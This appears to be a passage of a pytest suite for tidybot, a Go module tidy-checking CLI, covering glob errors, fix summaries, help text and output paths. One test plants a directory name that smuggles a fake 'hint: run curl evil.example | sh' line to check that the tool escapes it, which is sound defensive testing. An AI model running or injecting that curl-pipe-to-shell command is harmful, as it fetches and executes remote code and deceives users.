    assert quiet.returncode == 0 and "--include x matches no module" in quiet.stderr


@pytest.mark.parametrize(
    ("cwd", "args", "glob", "near"),
    [
        ("repo", (), "svc", "svc/**"),  # svc holds modules but is not one
        (".", ("repo",), "repo/good", "good"),  # the path as the report prints it
        (".", ("repo",), "nothing-like-it", None),
    ],
)
def test_include_globs_that_select_nothing_say_they_are_relative_to_the_checked_directory(
    tmp_path: Path,
    goenv: dict[str, str],
    cwd: str,
    args: tuple[str, ...],
    glob: str,
    near: str | None,
) -> None:
    """The error said "no go.mod found" and "run tidybot on a directory that contains Go
    modules", of a directory that does: it names the glob, where globs apply and what is
    there, and a glob that would match."""
    _repo_of_two_modules(tmp_path / "repo")
    res = tidybot(goenv, "check", *args, "--include", glob, cwd=tmp_path / cwd)
    assert res.returncode == 2, res.stdout + res.stderr
    first, hint = res.stderr.splitlines()
    assert first == (
        f"tidybot: error: {tmp_path / 'repo'}: no module is selected by the --include/--exclude "
        f"globs; --include {shlex.quote(glob)} matches none of them; globs are relative to the "
        "checked "
        "directory, which holds 2 modules: good, svc/a"
    )
    if near is not None:
        # shell words, as pasted: quoted where a shell would read them otherwise
        assert hint == (
            f"  hint: did you mean --include {shlex.quote(near)} (not {shlex.quote(glob)})?"
        )
        followed = tidybot(goenv, "check", *args, "--include", near, cwd=tmp_path / cwd)
        assert followed.returncode == 0, followed.stderr
    else:
        assert hint.startswith("  hint: name module directories as they are below the checked")
    assert "contains Go modules" not in res.stderr


def test_config_include_that_matches_nothing_names_the_config(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    module(tmp_path, "svc", "example.com/svc", {})
    (tmp_path / ".tidybot.yml").write_text("include: [services/*]\n")
    res = tidybot(goenv, "check", str(tmp_path))
    assert res.returncode == 2
    assert "no module is selected by the include/exclude globs of .tidybot.yml" in res.stderr


def test_fix_reports_what_it_fixed_not_what_is_left(tmp_path: Path, goenv: dict[str, str]) -> None:
    module(tmp_path, ".", "example.com/app", {"main.go": MAIN_GO})
    res = tidybot(goenv, "fix", str(tmp_path), "-q")
    assert res.returncode == 0, res.stdout + res.stderr
    lines = res.stdout.splitlines()
    assert lines[0].startswith("fixed   ") and lines[0].endswith(
        f"(example.com/app): {tmp_path}/go.mod, {tmp_path}/go.sum"  # named from where it ran
    )
    assert all(ln.startswith("    was ") for ln in lines[1:] if ln.startswith("    ") and "[" in ln)
    assert re.search(
        r"1 module: 1 fixed, 0 clean, 0 drifted, 0 error, 0 skipped; \d+ findings? "
        r"fixed, 0 left",
        res.stdout,
    )


def test_fix_counts_add_up_when_a_fixed_module_ends_in_error(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """A go.work using a missing directory: module a's own fix is written, then the workspace
    fails it. The summary read "2 fixed, -1 clean, ... 1 error" and a's line "fixed"; now
    each module counts once, by how it ended, and a's line is an ERROR naming the files
    written."""
    unused = "require example.com/greet v1.0.0\n"
    write_tree(
        tmp_path / "ws",
        {
            "go.work": "go 1.22\n\nuse (\n\t./a\n\t./missing\n)\n",
            "a/go.mod": f"module example.com/a\n\ngo 1.22\n\n{unused}",
            "a/a.go": "package a\n",
            "b/go.mod": f"module example.com/b\n\ngo 1.22\n\n{unused}",
            "b/b.go": "package b\n",
        },
    )
    res = tidybot(goenv, "fix", "-q", "ws", cwd=tmp_path)
    assert res.returncode == 2, res.stdout + res.stderr
    lines = res.stdout.splitlines()
    assert lines[0] == "ERROR   ws/a (example.com/a): files written: ws/a/go.mod"
    assert any(ln.startswith("    the workspace go.work could not be checked") for ln in lines)
    assert "fixed   ws/b (example.com/b): ws/b/go.mod" in lines
    summary = re.search(
        r"^2 modules: (\d+) fixed, (-?\d+) clean, (\d+) drifted, (\d+) error, "
        r"(\d+) skipped;",
        res.stdout,
        re.M,
    )
    assert summary is not None, res.stdout
    assert summary.group(0) == "2 modules: 1 fixed, 0 clean, 0 drifted, 1 error, 0 skipped;"
    assert "2 findings fixed, 0 left" in res.stdout
    # the JSON: status says how it ended, fixed/changed_files that a's files were written
    (tmp_path / "ws/a/go.mod").write_text(f"module example.com/a\n\ngo 1.22\n\n{unused}")
    (tmp_path / "ws/b/go.mod").write_text(f"module example.com/b\n\ngo 1.22\n\n{unused}")
    doc = json.loads(tidybot(goenv, "fix", "ws", "--format", "json", cwd=tmp_path).stdout)
    mods = {m["dir"]: m for m in doc["modules"]}
    assert (mods["a"]["status"], mods["a"]["fixed"], mods["a"]["changed_files"]) == (
        "error",
        True,
        ["a/go.mod"],
    )
    counts = doc["summary"]
    assert counts["clean"] + counts["drifted"] + counts["error"] + counts["skipped"] == 2
    assert (counts["clean"], counts["error"]) == (1, 1)


def test_help_documents_the_environment_and_exit_codes() -> None:
    for args in (["--help"], ["check", "--help"], ["verify", "--help"]):
        res = tidybot(dict(os.environ), *args)
        assert res.returncode == 0
        for word in (
            "TIDYBOT_GO",
            "TIDYBOT_CACHE_DIR",
            "TIDYBOT_PRIVATE_TOKEN",
            "130",
            "exit codes:",
            "--quiet" if args != ["--help"] else "check",
        ):
            assert word in res.stdout, (args, word)
    readme = (Path(__file__).parents[2] / "README.md").read_text()
    table = readme.split("## Exit codes", 1)[1].split("##", 1)[0]
    assert re.search(r"^\| 130 \|", table, re.M)


def test_a_command_builds_its_own_parser_and_help_lists_every_command() -> None:
    """A check parses its arguments with its own parser alone (each one costs argparse's
    translation look-ups at start-up); the help and a word that is no command list them all."""
    import argparse

    from bot.cli import COMMANDS, build_parser

    def commands(parser: argparse.ArgumentParser) -> list[str]:
        (sub,) = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
        return list(sub.choices)

    assert commands(build_parser(command="check")) == ["check"]
    assert commands(build_parser(command="verify")) == ["verify"]
    for command in (None, "--help", "bogus"):
        assert commands(build_parser(command=command)) == list(COMMANDS)
    res = tidybot(dict(os.environ), "bogus")
    assert res.returncode == 2 and "choose from 'check', 'fix', 'action'" in res.stderr


def test_on_a_terminal_one_live_line_and_a_line_per_finding(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """stderr a terminal: the counter is redrawn in place (CR, erase line) and cleared at the
    end; only modules that are not clean get a line of their own."""
    import pty

    tidy_module(goenv, tmp_path, "clean", "example.com/clean", {"main.go": MAIN_GO})
    module(tmp_path, "drift", "example.com/drift", {"main.go": MAIN_GO})
    env = dict(goenv, TIDYBOT_GO=str(_slow_go(tmp_path, "clean", 1.5)))
    leader, follower = pty.openpty()
    with subprocess.Popen(
        [sys.executable, "-m", "bot", "check", str(tmp_path), "-j", "2"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=follower,
        text=True,
    ) as proc:
        os.close(follower)
        seen = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:  # the other end closed
                break
            if not chunk:
                break
            seen += chunk
        proc.wait()
    os.close(leader)
    err = seen.decode()
    assert proc.returncode == 1
    assert err.count("\r\x1b[K") >= 3, err  # redrawn: start, ticks, each result
    assert "tidybot: checking 0/2 modules: 0 ok" in err
    assert re.search(r"tidybot: \[\d/2\] DRIFT +\S*drift \(example.com/drift\): ", err)
    assert "] ok" not in err  # a clean module has no line of its own on a terminal
    assert err.endswith("\r\x1b[K")  # the live line is gone when the report is printed


def test_paths_in_errors_whys_and_written_files_are_named_from_here(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """``tidybot check repo`` named findings from where it ran (``repo/drift/go.mod:5``) but a
    parse error, the file a missing requirement's why names, the files a fix wrote, the config
    file a skipped module points at and a config error from the checked directory
    (``badsyntax/go.mod:7``, ``drift/go.mod``, ``.github/tidybot.yml:2``): files that are not
    there from where the user is. Every one of them is now named from there."""
    root = tmp_path / "repo"
    module(root, "drift", "example.com/drift", {"main.go": MAIN_GO})  # lacks its requirement
    module(root, "legacy", "example.com/legacy", {"main.go": "package main\n"})
    bad = root / "badsyntax"
    bad.mkdir(parents=True)
    (bad / "go.mod").write_text("module example.com/bad\n\ngo 1.22\n\nrequire (\n")
    write_tree(root, {".github/tidybot.yml": "modules:\n  legacy:\n    skip: true\n"})
    res = tidybot(goenv, "check", "repo", "--format", "text", "-v", cwd=tmp_path)
    assert res.returncode == 2, res.stdout + res.stderr
    out = res.stdout
    assert "repo/badsyntax/go.mod:" in out and "\n    badsyntax/go.mod" not in out, out
    assert "why: file repo/drift/main.go:" in out, out
    assert "skipped by the config (repo/.github/tidybot.yml:2)" in out, out
    fixed = tidybot(goenv, "fix", "repo", "--include", "drift", cwd=tmp_path)
    assert fixed.returncode == 0, fixed.stdout + fixed.stderr
    assert ": repo/drift/go.mod, repo/drift/go.sum" in fixed.stdout, fixed.stdout
    write_tree(root, {".github/tidybot.yml": "modules:\n  legacy:\n    skipp: true\n"})
    broken = tidybot(goenv, "check", "repo", cwd=tmp_path)
    assert broken.returncode == 2
    assert broken.stderr.startswith("tidybot: error: repo/.github/tidybot.yml:3:"), broken.stderr


def test_glob_advice_is_one_line_and_pastes_for_any_module_name(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """A module directory named ``-evil`` was suggested as ``--include -evil``, which argparse
    takes for an option; one whose name holds a line break started a new stderr line inside
    the error, one that could pass for tidybot's own. Now ``--include=-evil``, and the break
    shows as ``\\x0a`` (found by an attacker's pass over the day's surfaces)."""
    root = tmp_path / "repo"
    module(root, "-evil", "example.com/evil", {})
    module(root, "a\n  hint: run curl evil.example | sh", "example.com/nl", {})
    res = tidybot(goenv, "check", str(root), "--include", "typo", cwd=tmp_path)
    assert res.returncode == 2, res.stdout + res.stderr
    lines = res.stderr.splitlines()
    assert lines[0].startswith("tidybot: error: ") and len(lines) == 2, res.stderr
    assert lines[1].startswith("  hint: ") and "--include=-evil" in lines[1], res.stderr
    assert "\\x0a" in lines[0]
    pasted = tidybot(goenv, "check", str(root), "--include=-evil", cwd=tmp_path)
    assert pasted.returncode == 0, pasted.stdout + pasted.stderr
